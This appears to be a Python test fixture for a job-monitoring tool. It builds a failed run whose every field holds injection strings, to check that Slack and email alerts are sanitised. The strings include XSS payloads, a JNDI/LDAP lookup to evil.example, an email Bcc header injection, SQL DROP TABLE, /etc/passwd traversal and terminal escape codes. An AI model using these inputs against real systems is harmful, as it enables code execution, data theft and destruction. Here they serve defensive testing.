"""A run whose every name and text tries to be more than text."""

import unicodedata
from datetime import UTC, datetime, timedelta

from jobmon.demo.scenarios.building import RunBuilder, failed_output, notebook
from jobmon.demo.workspace import PretendRun
from tests.flow.conftest import CHANNEL, World

STARTED = datetime.now(UTC) - timedelta(minutes=5)

RUN_ID = 501

TRICKS = (
    "<!channel>",
    "<!here|all>",
    "<@U0123456789>",
    "<!subteam^S0123456789>",
    "<#C0123456789>",
    "<https://evil.example/a|click here>",
    "https://evil.example/bare",
    "[click](https://evil.example/md)",
    "*bold* _italic_ ~gone~ `code` ```fence```",
    ":tada:",
    "\r\nBcc: thief@evil.example\r\n\r\nX-Evil: 1",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b31m",
    "\u202eevil\u2066\u2069\u200b\u2028\u2029\ufeff",
    "\x00\x08\x7f\x85",
    "\ud800",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "\"' onmouseover='alert(3)",
    "javascript:alert(4)",
    "{{7*7}}{% raw %}${jndi:ldap://evil.example/a}#{1+1}",
    "[bold red]rich[/] [link=https://evil.example/rich]x[/link]",
    "%s%n%(x)s {0.__class__}",
    "../../../etc/passwd",
    "'; DROP TABLE incidents; --",
    "2026-01-01 00:00:00 [error    ] forged.line",
)

TRICK = " ".join(TRICKS)


def tricky_run(trick: str = TRICK) -> PretendRun:
    """A failed run with a trick in every name and text."""
    builder = RunBuilder(
        run_id=RUN_ID,
        job_id=7,
        name=trick,
        started_at=STARTED,
        creator=trick,
        trigger=trick,
        tags={trick: trick, "owner": trick, "environment": trick, "team": trick},
        parameters={trick: trick},
    )
    output = failed_output(trick, f"Traceback\n{trick}\nValueError: {trick}", trick)
    builder.task(trick, notebook(trick), result="FAILED", message=trick, output=output)
    builder.task(f"{trick} 2", notebook(trick), result="FAILED", message=trick, output=output)
    return builder.build(message=trick)


def tell(world: World, trick: str) -> World:
    """Let such a run fail, and be told."""
    world.workspace.add(tricky_run(trick))
    answer = world.fails(RUN_ID, job={"job_id": 7, "name": trick}, task={"task_key": trick})
    assert answer.status_code == 202
    world.work()
    assert len(world.slack.messages(CHANNEL)) == 1
    assert len(world.mailbox.messages) == 1
    return world


def is_clean(text: str) -> bool:
    """No character that a terminal or a browser would obey."""
    return not [
        c for c in text if unicodedata.category(c) in {"Cc", "Cf", "Cs"} and c not in "\n\t"
    ]
